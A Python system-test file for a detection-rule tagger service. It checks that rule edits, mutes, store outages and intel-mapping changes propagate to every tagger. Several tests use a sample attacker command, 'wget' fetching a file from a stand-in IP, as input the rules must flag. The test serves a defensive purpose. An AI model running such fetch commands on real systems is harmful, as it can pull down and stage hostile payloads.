# SPDX-License-Identifier: AGPL-3.0-or-later
"""Rules on their way to real taggers: saved in every style, edited fast, muted, and left alone."""

from __future__ import annotations

import asyncio
import json
import os
import sys
import time
from collections.abc import AsyncIterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from benchmarks.rule_edits import RULE_ID, RULES, STYLES
from benchmarks.rule_plane import RulePlane, rule_text

from decnet_ttp.v1 import tagger_service_pb2
from system.stalls import watching

pytestmark = pytest.mark.system

TAGGERS = 3


@pytest_asyncio.fixture
async def plane(database_url: str) -> AsyncIterator[RulePlane]:
    """A rule-store with states and three taggers over a copy of the shipped rules."""
    async with RulePlane(RULES, taggers=TAGGERS, database_url=database_url) as started:
        yield started


async def test_200_edits_in_20_seconds_end_on_one_revision(plane: RulePlane) -> None:
    """Every tagger follows without going back, and all end with the last edit and one pack."""
    path = plane.folder / f"{RULE_ID}.yaml"
    seen: list[list[int]] = [[] for _ in range(TAGGERS)]
    done = asyncio.Event()

    async def observe(tagger: int) -> None:
        while not done.is_set():
            seen[tagger].append((await plane.tags(tagger, "probe")).get(RULE_ID, 0))
            await asyncio.sleep(0.01)

    async with asyncio.TaskGroup() as group:
        for tagger in range(TAGGERS):
            group.create_task(observe(tagger))
        began = time.monotonic()
        for version in range(1, 201):
            scratch = path.with_suffix(".tmp")
            scratch.write_text(rule_text(RULE_ID, version), encoding="utf-8")
            scratch.replace(path)
            # As far from the last edit as 200 of them in 20 s are.
            await asyncio.sleep(max(0.0, began + version * 0.1 - time.monotonic()))
        await plane.until("probe", lambda tags: tags.get(RULE_ID) == 200)
        done.set()
    for versions in seen:
        assert versions == sorted(versions)
        sys.stdout.write(f"{len(set(versions))} versions seen\n")
        assert len(set(versions)) > 50
    described = await plane.describe()
    assert len({(each.rules_epoch, each.rules_revision) for each in described}) == 1
    packs = {
        tuple((lifter.name, lifter.rule_count) for lifter in each.lifters) for each in described
    }
    assert len(packs) == 1
    assert sum(count for _, count in packs.pop()) > 50


async def test_every_style_of_saving_arrives_once_and_in_order(plane: RulePlane) -> None:
    """What editors leave beside the file is no rule, and nothing is lost while they rename."""
    path = plane.folder / f"{RULE_ID}.yaml"
    path.write_text(rule_text(RULE_ID, 1), encoding="utf-8")
    await plane.until("probe", lambda tags: tags.get(RULE_ID) == 1)
    before = (await plane.describe())[0]
    version = 1
    for _ in range(2):
        for save in STYLES.values():
            version += 1
            await asyncio.to_thread(save, path, rule_text(RULE_ID, version))
            expected = version
            await plane.until("probe", lambda tags, v=expected: tags.get(RULE_ID) == v)  # type: ignore[misc] # bound now
    described = await plane.describe()
    assert all(each.lifters == before.lifters for each in described)
    # One change an edit, whatever the kernel reports of it, unless a rename was seen half done.
    assert 0 <= described[0].rules_revision - before.rules_revision - (version - 1) <= 4


async def test_a_broken_edit_leaves_the_last_good_version_on_every_tagger(
    plane: RulePlane,
) -> None:
    path = plane.folder / f"{RULE_ID}.yaml"
    path.write_text(rule_text(RULE_ID, 1), encoding="utf-8")
    await plane.until("probe", lambda tags: tags.get(RULE_ID) == 1)
    path.write_text(rule_text(RULE_ID, 2).replace("\\b", "(?=x)"), encoding="utf-8")
    # An edit of another rule that arrives afterwards shows that the broken one was seen.
    other = plane.folder / "R9002.yaml"
    other.write_text(rule_text("R9002", 1, word="other"), encoding="utf-8")
    await plane.until("other probe", lambda tags: "R9002" in tags)
    assert {(await plane.tags(n, "probe")).get(RULE_ID) for n in range(TAGGERS)} == {1}
    path.write_text(rule_text(RULE_ID, 3), encoding="utf-8")
    await plane.until("probe", lambda tags: tags.get(RULE_ID) == 3)
    path.unlink()
    await plane.until("probe", lambda tags: RULE_ID not in tags)


async def rules(plane: RulePlane, *arguments: str) -> Any:
    """Run a command about rules; returns its answer."""
    environ = {k: v for k, v in os.environ.items() if not k.startswith("DECNET_TTP_")}
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "decnet_ttp.cli.main", "rules", *arguments, "--json"),
        env=environ | plane.settings,
        stdout=asyncio.subprocess.PIPE,
    )
    out, _ = await process.communicate()
    assert process.returncode == 0
    return json.loads(out)


async def disable(plane: RulePlane, rule_id: str) -> float:
    """Run `rules disable --for 5s`; returns when it ends by itself, in seconds since the epoch."""
    answer = await rules(plane, "disable", rule_id, "--for", "5s", "--reason", "noise")
    state = answer["state"]
    assert (state["mode"], state["reason"]) == ("RULE_MODE_DISABLED", "noise")
    return datetime.fromisoformat(state["expire_time"]).timestamp()


@pytest.mark.parametrize("store_dies", [False, True], ids=["store-lives", "store-killed"])
async def test_a_rule_muted_for_5_seconds_is_silent_and_comes_back(
    plane: RulePlane, *, store_dies: bool
) -> None:
    """No tagger tags by it before its time is over; afterwards all do, store or no store."""
    attack = "wget http://198.51.100.7/x"
    await plane.until(attack, lambda tags: "R0012" in tags)
    expires_s = await disable(plane, "R0012")
    await plane.until(attack, lambda tags: "R0012" not in tags)
    if store_dies:
        await asyncio.sleep(max(0.0, expires_s - 2 - time.time()))
        await plane.kill_store()
    checks = 0
    while True:
        answers = [await plane.tags(tagger, attack) for tagger in range(TAGGERS)]
        if time.time() >= expires_s:
            break
        assert all("R0012" not in tags for tags in answers)
        checks += 1
        await asyncio.sleep(0.05)
    sys.stdout.write(f"looked {checks} times\n")
    assert checks > 10
    await plane.until(attack, lambda tags: "R0012" in tags, within_s=10)
    if store_dies:
        # A store that comes back later does not bring the state back.
        await plane.start_store()
        await plane.until(attack, lambda tags: "R0012" in tags)


async def test_a_muted_rule_is_silent_within_half_a_second(
    plane: RulePlane, tmp_path: Path
) -> None:
    """On every tagger, each of five times; what the machine itself stood still does not count."""
    attack = "wget http://198.51.100.7/x"
    took_s = []
    with watching(tmp_path) as stalls:
        for _ in range(5):
            await plane.until(attack, lambda tags: "R0012" in tags)
            await rules(plane, "disable", "R0012", "--for", "1h", "--reason", "noise")
            began = time.time()
            silent_s = max(await plane.until(attack, lambda tags: "R0012" not in tags))
            took_s.append(silent_s - stalls.within(began, began + silent_s))
            await rules(plane, "enable", "R0012", "--reason", "heard")
    sys.stdout.write(f"silent after {', '.join(f'{each:.3f}' for each in took_s)} s\n")
    assert max(took_s) < 0.5


async def test_taggers_catch_up_with_a_store_that_was_away(plane: RulePlane) -> None:
    await plane.kill_store()
    path = plane.folder / f"{RULE_ID}.yaml"
    path.write_text(rule_text(RULE_ID, 7), encoding="utf-8")
    (plane.folder / "R0012.yaml").unlink()
    attack = "wget http://198.51.100.7/probe"
    assert "R0012" in await plane.tags(0, attack)
    await plane.start_store()
    await plane.until(attack, lambda tags: tags.get(RULE_ID) == 7 and "R0012" not in tags)
    described = await plane.describe()
    assert len({(each.rules_epoch, each.rules_revision) for each in described}) == 1


async def test_an_edited_mapping_is_live_in_every_tagger(plane: RulePlane) -> None:
    """A mapping is edited as a rule is: nothing is restarted, and a broken edit changes nothing."""
    path = plane.folder.parent / "intel" / "feodo.yaml"
    sound = path.read_text(encoding="utf-8")
    request = tagger_service_pb2.TagEventsRequest()
    event = request.groups.add(origin_id="o").events.add(source_kind="intel", source_id="i")
    event.intel.feodo_listed = True

    async def confidences() -> set[float]:
        answers = [await stub.TagEvents(request, timeout=60) for stub in plane.stubs]
        return {tag.confidence for each in answers for group in each.groups for tag in group.tags}

    async def until_all(confidence: float) -> None:
        async with asyncio.timeout(120):
            while await confidences() != {confidence}:
                await asyncio.sleep(0.01)

    await until_all(0.85)
    halved = sound.replace("    techniques:", "    confidence_multiplier: 0.5\n    techniques:")
    path.write_text(halved, encoding="utf-8")
    await until_all(0.85 * 0.5)
    path.write_text(halved.replace("T1588.001", "T1588.999x"), encoding="utf-8")
    # An edit of a rule that arrives afterwards shows that the broken one was seen.
    other = plane.folder / f"{RULE_ID}.yaml"
    other.write_text(rule_text(RULE_ID, 1), encoding="utf-8")
    await plane.until("probe", lambda tags: RULE_ID in tags)
    assert await confidences() == {0.85 * 0.5}
    path.write_text(sound, encoding="utf-8")
    await until_all(0.85)
